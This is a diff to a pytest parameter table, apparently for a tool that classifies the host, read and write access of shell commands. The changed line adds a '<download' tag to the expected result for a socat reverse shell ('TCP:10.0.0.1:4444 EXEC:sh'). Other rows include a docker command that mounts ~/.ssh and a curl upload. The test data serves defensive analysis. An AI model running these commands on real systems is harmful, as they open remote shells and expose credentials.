@@ -32,7 +32,7 @@ import pytest
     ('curl --data-raw @a.json https://a.example', ['curl H:a.example']),
     ('curl -O https://a.example/f.tgz', ['curl W:./f.tgz H:a.example']),
     ('wget -P ~/dl https://a.example/f.tgz', ['wget W:~/dl W:~/dl/f.tgz H:a.example']),
-    ('socat TCP:10.0.0.1:4444 EXEC:sh', ['socat H:10.0.0.1', 'sh']),
+    ('socat TCP:10.0.0.1:4444 EXEC:sh', ['socat H:10.0.0.1 <download', 'sh']),
     ('openssl s_client -connect a.example:443', ['openssl H:a.example']),
     ('docker run -v ~/.ssh:/k:ro alpine', ['docker R:~/.ssh']),
     ('docker run --mount type=bind,src=/etc,dst=/e alpine', ['docker W:/etc']),
